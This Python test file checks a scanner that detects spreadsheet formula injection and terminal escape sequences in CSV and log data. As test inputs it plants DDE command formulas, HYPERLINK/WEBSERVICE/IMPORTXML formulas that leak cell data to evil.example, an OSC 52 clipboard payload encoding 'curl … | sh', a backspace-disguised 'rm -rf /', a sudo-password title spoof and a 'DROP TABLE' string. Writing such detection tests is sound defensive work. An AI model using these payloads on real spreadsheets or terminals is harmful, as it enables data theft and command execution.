"""Formula injection (MLS-FML-*) and terminal escape (MLS-TRM-*) detectors on realistic data.

Formula injection only applies to CSV/TSV, so those tests drive the orchestrator with ``fmt="csv"``
and an in-memory batch source (the CSV reader is tested by its own module); terminal escapes are
format-agnostic and go through ``scan_dataframe``.
"""

from __future__ import annotations

import random
from collections.abc import Iterator
from pathlib import Path
from typing import BinaryIO

import polars as pl
import pyarrow as pa

from mlsec_dagster import scan_dataframe, scan_path
from mlsec_dagster.engine.artifact import Artifact
from mlsec_dagster.engine.context import ScanContext
from mlsec_dagster.engine.findings import Finding, Severity
from mlsec_dagster.engine.policy import DatasetRules, Policy
from mlsec_dagster.scanners import SCANNERS
from mlsec_dagster.scanners.datasets.cells import scan_dataset
from mlsec_dagster.scanners.datasets.detectors import formula
from mlsec_dagster.scanners.datasets.model import Batch, Cells, DetectorContext, SourceItem

ROWS = 12_000
FIRST = ("Alice", "Bob", "Chen", "Dara", "Emil", "Fatima", "Goran", "Hana", "Ivan", "Jun")
NOTES = (
    "called back, all good", "- follow up next week", "== Summary ==", "prefers email", "paid -12.50 refund",
    "VIP customer", "@alice_smith asked about shipping", "n/a", "+ upsell: premium plan", "2024-03-05 visit",
)  # fmt: skip


def _contacts(rows: int = ROWS) -> dict[str, list[str]]:
    rng = random.Random(5)
    phones = ("+1 555 123 4567", "+44 20 7946 0958", "+1-555-010-9999", "+33 1 23 45 67 89", "(555) 010-2222")
    return {
        "name": [f"{rng.choice(FIRST)} {rng.randint(1, 999)}" for _ in range(rows)],
        "phone": [rng.choice(phones) for _ in range(rows)],
        "amount": [f"{rng.uniform(-500, 500):.2f}" if rng.random() < 0.9 else "-1e3" for _ in range(rows)],
        "handle": [f"@{rng.choice(FIRST).lower()}_{rng.randint(1, 99)}" for _ in range(rows)],
        "note": [rng.choice(NOTES) for _ in range(rows)],
    }


def _scan_csv(columns: dict[str, list[str]], fmt: str = "csv") -> list[Finding]:
    table = pa.table({k: pa.array(v, pa.string()) for k, v in columns.items()})

    def source() -> Iterator[SourceItem]:
        first = 0
        for index, batch in enumerate(table.to_batches(max_chunksize=5_000)):
            yield Batch(batch, first, index)
            first += batch.num_rows

    def refuse() -> BinaryIO:
        raise OSError("in-memory")

    artifact = Artifact(path="contacts.csv", member=(), size=table.nbytes, head=b"", open=refuse)
    ctx = ScanContext(Policy(), SCANNERS)
    ctx.start_file()
    return list(scan_dataset(artifact, ctx, fmt, source()))


def _by(findings: list[Finding], rule: str, field: str | None = None) -> dict[int | None, Finding]:
    return {
        f.location.row: f
        for f in findings
        if f.rule_id == rule and (field is None or f.location.field == field)
    }


# ---------------------------------------------------------------- formula injection


def test_formula_payloads_in_csv_cells_and_header(canary: Path) -> None:
    columns = _contacts()
    columns["note"][10_250] = f"=cmd|' /C touch {canary}'!A0"
    columns["amount"][50] = "-2+3+cmd|' /C calc'!A0"
    columns["note"][300] = '=HYPERLINK("http://evil.example/?leak="&A1,"Click for details")'
    columns["note"][400] = "=SUM(A1:A9)"
    columns["note"][401] = "\t=1+1"
    columns["handle"][402] = '@WEBSERVICE("http://evil.example/"&B2)'
    columns['=IMPORTXML("http://evil.example/x","//a")'] = columns.pop("phone")
    findings = _scan_csv(columns)
    fml = [f for f in findings if f.rule_id.startswith("MLS-FML")]
    expected = {
        ("MLS-FML-001", "note", 10_250, 0): Severity.HIGH,
        ("MLS-FML-001", "amount", 50, 0): Severity.HIGH,
        ("MLS-FML-001", "note", 300, 0): Severity.HIGH,
        ("MLS-FML-002", "note", 400, 0): Severity.MEDIUM,
        ("MLS-FML-002", "note", 401, 1): Severity.MEDIUM,
        ("MLS-FML-001", "handle", 402, 0): Severity.HIGH,
        ("MLS-FML-001", '=IMPORTXML("http://evil.example/x","//a")', None, 0): Severity.HIGH,
    }
    got = {(f.rule_id, f.location.field, f.location.row, f.location.char_offset): f.severity for f in fml}
    assert got == expected  # phones, negative numbers, @handles, list items, headings: nothing
    assert "HYPERLINK" in _by(fml, "MLS-FML-001", "note")[300].message
    assert "Dynamic Data Exchange" in _by(fml, "MLS-FML-001", "note")[10_250].message


def test_formula_detector_only_runs_on_delimited_formats() -> None:
    columns = _contacts(500)
    columns["note"][7] = "=cmd|' /C calc'!A0"
    assert _by(_scan_csv(columns, "tsv"), "MLS-FML-001")[7].severity == Severity.HIGH
    assert not [f for f in _scan_csv(columns, "parquet") if f.rule_id.startswith("MLS-FML")]
    assert not [
        f for f in scan_dataframe(pl.DataFrame(columns), "df").findings if f.rule_id.startswith("MLS-FML")
    ]


def test_formula_grading_of_look_alikes() -> None:
    values = [
        "-12.5", "-1e3", "+1 555 123 4567", "+44 20 7946 0958", "@alice", "@alice_smith", "2024-01-05",
        "- list item", "== History ==", "@bob nice image (lol)", "- Update (2023)", "-", "=",
        "=foo bar", "-2+3", "-A1+B2", "@SUM(1+1)*cmd|' /C calc'!A0", "\r@IMPORTDATA(\"http://x\")", None,
    ]  # fmt: skip
    cells = Cells("note", pl.Series("note", values, dtype=pl.String))
    ctx = DetectorContext("csv", DatasetRules(), frozenset())
    graded: dict[str, Severity] = {}
    for match in formula.detect(cells, ctx):
        for index in match.indices:
            value = str(values[int(index)])
            graded[value] = match.rule.severity
            assert match.explain(value).char_offset == (1 if value.startswith("\r") else 0)
    assert graded == {
        "=foo bar": Severity.LOW,
        "-2+3": Severity.LOW,
        "-A1+B2": Severity.MEDIUM,
        "@SUM(1+1)*cmd|' /C calc'!A0": Severity.HIGH,
        '\r@IMPORTDATA("http://x")': Severity.HIGH,
    }


# ---------------------------------------------------------------- terminal escapes


def _log_lines(rows: int = ROWS) -> list[str]:
    rng = random.Random(8)
    levels = ("INFO", "WARN", "DEBUG", "ERROR")
    return [
        f"2024-05-{rng.randint(1, 28):02d} {rng.choice(levels)} worker-{rng.randint(1, 9)} processed "
        f"{rng.randint(1, 9999)} records in {rng.uniform(0, 3):.2f}s"
        for _ in range(rows)
    ]


def test_terminal_escapes_are_reported_with_exact_location() -> None:
    text = _log_lines()
    text[10_400] = "Done.\x1b]52;c;Y3VybCBodHRwOi8vZXZpbC5leGFtcGxlL3ggfCBzaA==\x07 Next step."
    long = text[0] * 80
    assert len(long) > 4_096
    text[3_000] = long + "\x1b]52;c;ZWNobyBwd25lZA==\x1b\\"
    text[20] = "Status: ok\x1b[2K\x1b[1A\x1b[2Kstatus: compromised"
    text[21] = "title \x1b]0;sudo password required\x07"
    text[22] = "\x1b[32mPASSED\x1b[0m test_login"
    text[23] = "user=admin\x00; DROP TABLE users"
    text[24] = "rm -rf /tmp/cache\x08\x08\x08\x08\x08 /"
    text[25] = "caf\u00c3\u00a9 r\u00c3\u009bsum\u00c3\u00a9"  # UTF-8 read as Latin-1 (mojibake)
    text[26] = "page one\x0cpage two\x0bcontinued"  # PDF extraction: silent
    text[27] = "link \x1b]8;;http://evil.example/\x1b\\https://docs.python.org\x1b]8;;\x1b\\"
    findings = scan_dataframe(pl.DataFrame({"log": text}), "logs").findings
    trm = [f for f in findings if f.rule_id.startswith("MLS-TRM")]
    got = {(f.rule_id, f.location.row, f.location.char_offset): f.severity for f in trm}
    assert got == {
        ("MLS-TRM-001", 10_400, 5): Severity.HIGH,
        ("MLS-TRM-001", 3_000, len(long)): Severity.HIGH,
        ("MLS-TRM-002", 20, 10): Severity.MEDIUM,
        ("MLS-TRM-002", 21, 6): Severity.MEDIUM,
        ("MLS-TRM-003", 22, 0): Severity.LOW,
        ("MLS-TRM-004", 23, 10): Severity.MEDIUM,
        ("MLS-TRM-005", 24, 17): Severity.MEDIUM,
        ("MLS-TRM-006", 25, 8): Severity.LOW,
        ("MLS-TRM-002", 27, 5): Severity.MEDIUM,
    }
    osc52 = _by(trm, "MLS-TRM-001")[10_400]
    assert "OSC 52" in osc52.message and osc52.location.field == "log"
    assert "\x1b" not in osc52.evidence and "\\x1b]52" in osc52.evidence


def test_coloured_console_logs_are_low() -> None:
    rng = random.Random(2)
    text = [
        f"\x1b[{rng.choice((31, 32, 33, 1))}m{line}\x1b[0m" if rng.random() < 0.6 else line
        for line in _log_lines(5_000)
    ]
    findings = scan_dataframe(pl.DataFrame({"log": text}), "ci").findings
    trm = [f for f in findings if f.location.field == "log"]
    assert trm and {f.rule_id for f in trm} <= {"MLS-TRM-003", "MLS-DAT-011"}
    assert all(f.severity == Severity.LOW for f in trm)


def test_formula_injection_end_to_end_through_the_csv_reader(tmp_path: Path, canary: Path) -> None:
    columns = _contacts()
    columns["note"][10_500] = f"=cmd|' /C touch {canary}'!A0"
    frame = pl.DataFrame(columns).rename({"handle": "@SUM(1+1)*cmd|' /C calc'!A0"})
    frame.write_csv(tmp_path / "contacts.csv")
    frame.write_csv(tmp_path / "contacts.tsv", separator="\t")
    for name in ("contacts.csv", "contacts.tsv"):
        findings = [f for f in scan_path(tmp_path / name).findings if f.rule_id.startswith("MLS-FML")]
        got = {(f.rule_id, f.severity, f.location.field, f.location.row) for f in findings}
        assert got == {
            ("MLS-FML-001", Severity.HIGH, "note", 10_500),
            ("MLS-FML-001", Severity.HIGH, "@SUM(1+1)*cmd|' /C calc'!A0", None),
        }, name


def test_control_byte_scan_matches_a_per_character_check_at_every_code_point_and_block_edge() -> None:
    """The detector scans the Arrow byte buffer with numpy; it must find exactly the cells a plain
    per-character test finds: every C0 but tab/LF/VT/FF/CR, DEL and U+0080-U+009F, wherever they sit
    (including right at the 256 KiB block edges, and a C1 control whose two bytes straddle one)."""
    from mlsec_dagster.scanners.datasets.detectors import terminal

    block = terminal._BLOCK
    cells: list[str | None] = [f"row {cp} \u00e9 {chr(cp)} \u00a0end" for cp in range(0x300)]
    cells += [None, "", "plain\ttext\r\nwith\x0bbreaks\x0c", "\u00c2\u0085 mojibake", "\u4e2d\u6587\u0085"]
    for at in (block - 2, block - 1, block, block + 1, 3 * block - 1):
        for char in ("\x1b", "\x7f", "\x85", "\x9b", "\x00"):
            cells.append("a" * at + char + "tail")
            cells.append("\u00e9" * (at // 2) + char)
    series = pl.Series("c", cells, dtype=pl.String)
    expected = [
        i
        for i, v in enumerate(cells)
        if v is not None
        and any((ord(c) < 0x20 and c not in "\t\n\x0b\x0c\r") or 0x7F <= ord(c) <= 0x9F for c in v)
    ]
    assert terminal._control_rows(Cells("c", series)).tolist() == expected
    assert terminal._control_rows(Cells("c", series.slice(7, 300))).tolist() == [
        i - 7 for i in expected if 7 <= i < 307
    ]
